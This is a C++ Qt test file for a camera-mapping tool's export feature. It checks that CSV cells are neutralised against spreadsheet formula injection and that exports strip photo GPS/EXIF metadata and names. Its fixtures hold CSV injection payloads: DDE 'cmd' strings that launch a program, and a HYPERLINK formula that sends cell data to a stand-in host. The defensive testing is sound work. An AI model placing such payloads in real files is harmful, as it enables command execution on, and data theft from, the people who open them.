// Exports that are safe to hand out: CSV cells that spreadsheets would run as formulas are
// neutralised, and no export carries photo metadata or people's names unless asked to
// (--include-authors).
#include "domain/csvtext.h"
#include "reliabilitytestutil.h"
#include "store/projectstore.h"

#include <QBuffer>
#include <QDir>
#include <QImage>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QtTest>

#include <exiv2/exiv2.hpp>

using namespace nadzor;
using namespace nadzor::reliability::test;

namespace {

const QString ReviewerName = QStringLiteral("Ivana Recenzentkinja");
const QString JournalAuthor = QStringLiteral("Marko Dnevnikovic");
const QString PhotoArtist = QStringLiteral("Ana Fotografkinja");
const QString PhotoMake = QStringLiteral("TelefonProizvodjac");

// RFC 4180: quoted cells may hold separators, quotes ("") and line breaks.
QList<QStringList> parseCsv(const QString &text)
{
    QList<QStringList> rows;
    QStringList row;
    QString cell;
    bool quoted = false, wasQuoted = false;
    for (int i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == QLatin1Char('"')) {
                if (i + 1 < text.size() && text.at(i + 1) == QLatin1Char('"')) {
                    cell += c;
                    ++i;
                } else {
                    quoted = false;
                }
            } else {
                cell += c;
            }
        } else if (c == QLatin1Char('"') && cell.isEmpty() && !wasQuoted) {
            quoted = wasQuoted = true;
        } else if (c == QLatin1Char(',')) {
            row << cell;
            cell.clear();
            wasQuoted = false;
        } else if (c == QLatin1Char('\n') || (c == QLatin1Char('\r') && i + 1 < text.size() && text.at(i + 1) == QLatin1Char('\n'))) {
            if (c == QLatin1Char('\r'))
                ++i;
            row << cell;
            rows << row;
            row.clear();
            cell.clear();
            wasQuoted = false;
        } else {
            cell += c;
        }
    }
    if (!cell.isEmpty() || !row.isEmpty()) {
        row << cell;
        rows << row;
    }
    return rows;
}

QByteArray jpegWithMetadata()
{
    QImage image(48, 32, QImage::Format_RGB32);
    image.fill(qRgb(10, 120, 200));
    QByteArray plain;
    QBuffer buffer(&plain);
    buffer.open(QIODevice::WriteOnly);
    image.save(&buffer, "JPEG");
    auto img = Exiv2::ImageFactory::open(reinterpret_cast<const Exiv2::byte *>(plain.constData()), long(plain.size()));
    img->readMetadata();
    Exiv2::ExifData &exif = img->exifData();
    exif["Exif.GPSInfo.GPSVersionID"] = "2 3 0 0";
    exif["Exif.GPSInfo.GPSLatitudeRef"] = "N";
    exif["Exif.GPSInfo.GPSLatitude"] = "45/1 7/1 2442/100";
    exif["Exif.GPSInfo.GPSLongitudeRef"] = "E";
    exif["Exif.GPSInfo.GPSLongitude"] = "19/1 13/1 1234/100";
    exif["Exif.Image.Artist"] = PhotoArtist.toStdString();
    exif["Exif.Image.Make"] = PhotoMake.toStdString();
    exif["Exif.Photo.DateTimeOriginal"] = "2023:06:01 14:30:05";
    img->xmpData()["Xmp.dc.creator"] = PhotoArtist.toStdString();
    img->iptcData()["Iptc.Application2.Byline"] = PhotoArtist.toStdString();
    img->writeMetadata();
    Exiv2::BasicIo &io = img->io();
    io.open();
    const Exiv2::DataBuf buf = io.read(long(io.size()));
    io.close();
    return QByteArray(reinterpret_cast<const char *>(buf.pData_), int(buf.size_));
}

// Every text and blob value in every table of an SQLite file (GeoPackage), as one byte string.
QByteArray allSqliteValues(const QString &path)
{
    QByteArray all;
    sqlite3 *db = nullptr;
    if (sqlite3_open_v2(QFile::encodeName(path).constData(), &db, SQLITE_OPEN_READONLY, nullptr) != SQLITE_OK) {
        sqlite3_close(db);
        return "cannot open";
    }
    QStringList tables;
    sqlite3_stmt *stmt = nullptr;
    sqlite3_prepare_v2(db, "SELECT name FROM sqlite_master WHERE type = 'table'", -1, &stmt, nullptr);
    while (sqlite3_step(stmt) == SQLITE_ROW)
        tables << QString::fromUtf8(reinterpret_cast<const char *>(sqlite3_column_text(stmt, 0)));
    sqlite3_finalize(stmt);
    for (const QString &table : tables) {
        const QByteArray sql = "SELECT * FROM \"" + table.toUtf8().replace('"', "\"\"") + "\"";
        if (sqlite3_prepare_v2(db, sql.constData(), -1, &stmt, nullptr) != SQLITE_OK)
            continue;
        while (sqlite3_step(stmt) == SQLITE_ROW) {
            for (int i = 0; i < sqlite3_column_count(stmt); ++i) {
                const void *blob = sqlite3_column_blob(stmt, i);
                all += QByteArray(static_cast<const char *>(blob), sqlite3_column_bytes(stmt, i)) + '\n';
            }
        }
        sqlite3_finalize(stmt);
    }
    sqlite3_close(db);
    return all;
}

} // namespace

class TestExports : public QObject {
    Q_OBJECT

private slots:
    void initTestCase();
    void spreadsheetSafeCsv();
    void privacy_data();
    void privacy();

private:
    QTemporaryDir m_dir;
    QString m_formulaProject;
    QString m_privateProject;
};

void TestExports::initTestCase()
{
    QVERIFY(m_dir.isValid());

    // Cameras whose fields start with =, +, -, @, tab and CR.
    m_formulaProject = m_dir.filePath(QStringLiteral("formulas.nadzor"));
    {
        auto created = store::ProjectStore::create(m_formulaProject);
        QVERIFY(created);
        const QStringList starts = {QStringLiteral("=cmd|' /C calc'!A0"), QStringLiteral("+1+cmd|' /C calc'!A0"),
                                    QStringLiteral("-2+3+cmd|' /C calc'!A0"), QStringLiteral("@SUM(1+9)*cmd|' /C calc'!A0"),
                                    QStringLiteral("\t=1+1"), QStringLiteral("\r=1+1"),
                                    QStringLiteral("=HYPERLINK(\"http://example.invalid?\"&A1,\"x\")")};
        for (int i = 0; i < starts.size(); ++i) {
            domain::Site site;
            site.position = {20.4 + i * 0.001, 44.8};
            site.address = starts.at(i);
            site.description = starts.at((i + 1) % starts.size());
            domain::Camera c;
            c.operatorName = starts.at(i);
            c.manufacturer = starts.at((i + 2) % starts.size());
            c.model = starts.at((i + 3) % starts.size());
            c.source = starts.at((i + 4) % starts.size());
            c.notes = starts.at((i + 5) % starts.size());
            c.direction = starts.at((i + 6) % starts.size());
            c.surveillanceZone = starts.at(i);
            c.tags.insert(starts.at(i).trimmed().left(8), starts.at((i + 1) % starts.size())); // a hostile column name too
            c.tags.insert(QStringLiteral("x:number"), QStringLiteral("-12.5"));
            site.cameras.append(c);
            QVERIFY(created.value()->addSite(site));
        }
    }

    // A project with a photo carrying EXIF GPS and its author, a reviewer and a journal author.
    m_privateProject = m_dir.filePath(QStringLiteral("private.nadzor"));
    {
        auto created = store::ProjectStore::create(m_privateProject);
        QVERIFY(created);
        store::ProjectStore &s = *created.value();
        s.setAuthor(JournalAuthor);
        domain::Site site;
        site.position = {20.4612345, 44.8123456};
        site.address = QStringLiteral("Trg republike 1");
        domain::Camera c;
        c.manufacturer = QStringLiteral("Dahua");
        c.status = domain::VerificationStatus::Verified;
        c.reviewedBy = ReviewerName;
        c.reviewedAt = QDateTime(QDate(2024, 5, 6), QTime(7, 8, 9), Qt::UTC);
        site.cameras.append(c);
        QVERIFY(s.addSite(site));
        domain::Photo photo;
        photo.cameraId = site.cameras.first().id;
        photo.fileName = QStringLiteral("IMG_%1.jpg").arg(PhotoArtist);
        photo.data = jpegWithMetadata();
        QVERIFY(photo.data.contains("Exif"));
        domain::PhotoMetadata metadata;
        auto added = s.addPhoto(photo, &metadata);
        QVERIFY2(added, qPrintable(added.errorString()));
        QVERIFY(metadata.gpsPosition.has_value());
        domain::Camera changed = s.camera(site.cameras.first().id).value();
        changed.notes = QStringLiteral("checked again");
        QVERIFY(s.updateCamera(changed));
    }
}

void TestExports::spreadsheetSafeCsv()
{
    const QString out = m_dir.filePath(QStringLiteral("formulas.csv"));
    const Run run = runNadzor({QStringLiteral("export"), m_formulaProject, QStringLiteral("--out"), out});
    QVERIFY2(run.finished && run.exitCode == 0, qPrintable(run.text()));
    const QList<QStringList> rows = parseCsv(QString::fromUtf8(readFile(out)));
    QCOMPARE(rows.size(), 8); // header + 7 cameras
    static const QRegularExpression plainNumber(QStringLiteral("^[+-]?(?:\\d+(?:\\.\\d*)?|\\.\\d+)(?:[eE][+-]?\\d+)?$"));
    int neutralised = 0, numbers = 0;
    for (int r = 0; r < rows.size(); ++r) {
        QCOMPARE(rows[r].size(), rows[0].size());
        for (const QString &cell : rows[r]) {
            if (cell.isEmpty())
                continue;
            const QChar c = cell.at(0);
            const bool dangerous = c == QLatin1Char('=') || c == QLatin1Char('+') || c == QLatin1Char('-')
                || c == QLatin1Char('@') || c == QLatin1Char('\t') || c == QLatin1Char('\r');
            if (dangerous) {
                QVERIFY2(plainNumber.match(cell).hasMatch(),
                         qPrintable(QStringLiteral("row %1: a cell a spreadsheet would run: %2").arg(r).arg(cell)));
                ++numbers;
            }
            if (cell.startsWith(QLatin1Char('\'')) && cell.size() > 1)
                ++neutralised;
        }
    }
    QVERIFY2(neutralised >= 7 * 9, qPrintable(QString::number(neutralised)));
    QVERIFY(numbers >= 7); // x:number = -12.5 stays a number
    // And nadzor import reads the original text back.
    const QString back = m_dir.filePath(QStringLiteral("formulas-back.nadzor"));
    const Run imported = runNadzor({QStringLiteral("import"), back, out});
    QVERIFY2(imported.finished && imported.exitCode == 0, qPrintable(imported.text()));
    auto opened = store::ProjectStore::open(back, store::OpenMode::ReadOnly);
    QVERIFY(opened);
    const auto sites = opened.value()->sites().value();
    QCOMPARE(sites.size(), 7);
    QCOMPARE(sites.first().cameras.first().operatorName, QStringLiteral("=cmd|' /C calc'!A0"));
    QCOMPARE(sites.at(4).cameras.first().operatorName, QStringLiteral("=1+1")); // (import trims white space)
    // Free tag keys are header cells: neutralised on export, restored on import.
    QCOMPARE(sites.first().cameras.first().tags.value(QStringLiteral("=cmd|' /")), QStringLiteral("+1+cmd|' /C calc'!A0"));
    QCOMPARE(domain::spreadsheetSafe(QStringLiteral("\r=1+1")), QStringLiteral("'\r=1+1"));
}

void TestExports::privacy_data()
{
    QTest::addColumn<QString>("format");
    QTest::addColumn<bool>("includeAuthors");
    for (const char *f : {"geojson", "csv", "gpkg", "kml", "osm"}) {
        QTest::newRow(f) << QString::fromLatin1(f) << false;
        QTest::newRow(qPrintable(QStringLiteral("%1 --include-authors").arg(QLatin1String(f)))) << QString::fromLatin1(f) << true;
    }
}

void TestExports::privacy()
{
    QFETCH(QString, format);
    QFETCH(bool, includeAuthors);
    const QString out = m_dir.filePath(QStringLiteral("private-%1%2.%3").arg(format).arg(includeAuthors ? "-authors" : "").arg(format));
    QStringList args = {QStringLiteral("export"), m_privateProject, QStringLiteral("--out"), out};
    if (includeAuthors)
        args << QStringLiteral("--include-authors");
    const Run run = runNadzor(args);
    QVERIFY2(run.finished && run.exitCode == 0, qPrintable(run.text()));
    QByteArray bytes = readFile(out);
    QVERIFY(!bytes.isEmpty());
    if (format == QLatin1String("gpkg"))
        bytes += allSqliteValues(out);
    QVERIFY(bytes.contains("Dahua")); // the export has the camera
    // Never: the journal's author, the photo's metadata (author, make, GPS, EXIF), the photo.
    for (const QString &secret : {JournalAuthor, PhotoArtist, PhotoMake, QStringLiteral("Exif"), QStringLiteral("GPSLatitude"),
                                  QStringLiteral("45.12"), QStringLiteral("19.22"), QStringLiteral("JFIF"),
                                  QStringLiteral("IMG_"), QStringLiteral("image/jpeg")}) {
        QVERIFY2(!bytes.contains(secret.toUtf8()), qPrintable(QStringLiteral("%1 found in the %2 export").arg(secret, format)));
    }
    QVERIFY2(!bytes.contains("\xff\xd8\xff"), "JPEG bytes in the export");
    // The reviewer only when asked for.
    QCOMPARE(bytes.contains(ReviewerName.toUtf8()), includeAuthors);
}

QTEST_GUILESS_MAIN(TestExports)
#include "test_exports.moc"
